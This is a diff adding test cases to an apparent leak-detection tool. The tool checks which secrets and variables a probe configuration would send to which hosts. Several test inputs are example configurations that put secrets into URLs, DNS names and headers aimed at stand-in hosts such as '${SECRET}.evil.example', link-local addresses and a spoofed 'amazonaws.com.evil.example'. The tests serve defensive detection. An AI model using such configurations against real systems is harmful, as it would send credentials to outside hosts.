@@ -10,6 +10,8 @@ const env = {
   WORD: 'jobs',
   HOST: 'db.example.com',
   NAME: 'n.example.com',
+  BASE_TOKEN: 'https://hooks.example.com',
+  REGION: 'us-east-1',
 };
 
 async function sendsOf(source: string, read = 'read: up', more = ''): Promise<readonly string[]> {
@@ -45,6 +47,24 @@ test.each([
   ],
   ['a name', 'kind: dns, name: "${WORD}.evil.example", type: A', ["WORD → this machine's resolver"]],
   ['what stays on this machine', 'kind: http, url: "http://127.0.0.1/?k=${SECRET}"', []],
+  ['a socket’s host by its name', 'kind: http, url: "http://api.localhost/?k=${SECRET}"', []],
+  ['what is on this wire', 'kind: http, url: "http://169.254.1.2/?k=${SECRET}"', ['SECRET → 169.254.1.2']],
+  ['by either address', 'kind: http, url: "http://[fe80::2]/?k=${SECRET}"', ['SECRET → fe80::2']],
+  [
+    'a resolver on this machine, which asks others',
+    'kind: dns, name: "${WORD}.evil.example", type: A, server: "127.0.0.53"',
+    ['WORD → 127.0.0.53'],
+  ],
+  [
+    'a secret in a host is not what it is told to',
+    'kind: http, url: "https://${SECRET}.evil.example:8443/${WORD}"',
+    ['SECRET → ${SECRET}.evil.example', 'WORD → ${SECRET}.evil.example'],
+  ],
+  [
+    'of a base that is a secret',
+    'kind: http, url: "${BASE_TOKEN}/x", headers: { a: "${WORD}" }',
+    ['WORD → ${BASE_TOKEN}'],
+  ],
 ])('%s', async (_, source, expected) => {
   const read = source.includes('dns')
     ? 'read: answers'
@@ -52,6 +72,22 @@ test.each([
       ? 'read: { step: one, read: status }'
       : 'read: up';
   expect(await sendsOf(source, read, 'vars: { base: "${BASE}", word: "${WORD}" }\n')).toEqual(expected);
+});
+
+test.each(['kind', 'region', 'every', 'timeout', 'settle', 'history', 'needs', 'url', 'x'])(
+  'a header called %s is sent as any other, and so is what a request posts',
+  async (name) => {
+    const header = `kind: http, url: "\${BASE}", headers: { ${name}: "\${SECRET}" }`;
+    expect(await sendsOf(header)).toEqual(['SECRET → api.example.com']);
+    const step = `kind: http, steps: [ { name: one, url: "\${BASE}", headers: { ${name}: "\${SECRET}" } } ]`;
+    expect(await sendsOf(step, 'read: { step: one, read: status }')).toEqual(['SECRET → api.example.com']);
+  },
+);
+
+test('the region stands in what is signed', async () => {
+  const source = 'kind: cloudwatch, region: "${REGION}", endpoint: "https://c.example", anonymous: true';
+  const read = 'read: { namespace: A, metric: m, stat: Sum, period: 60s }';
+  expect(await sendsOf(source, read)).toEqual(['REGION → c.example']);
 });
 
 test('what a metric reads is asked of its source', async () => {
@@ -70,6 +106,7 @@ test.each([
   ['', 'http://monitoring.us-east-1.amazonaws.com', ['AWS credentials → monitoring.us-east-1.amazonaws.com']],
   ['', 'https://amazonaws.com.evil.example', ['AWS credentials → amazonaws.com.evil.example']],
   ['', 'http://127.0.0.1:4566', []],
+  ['', 'http://169.254.1.2:4566', ['AWS credentials → 169.254.1.2']],
 ])('a request that is signed%s for %s', async (more, endpoint, expected) => {
   const source = `kind: cloudwatch, region: us-east-1, endpoint: "${endpoint}"${more}`;
   const read = 'read: { namespace: A, metric: m, stat: Sum, period: 60s }';
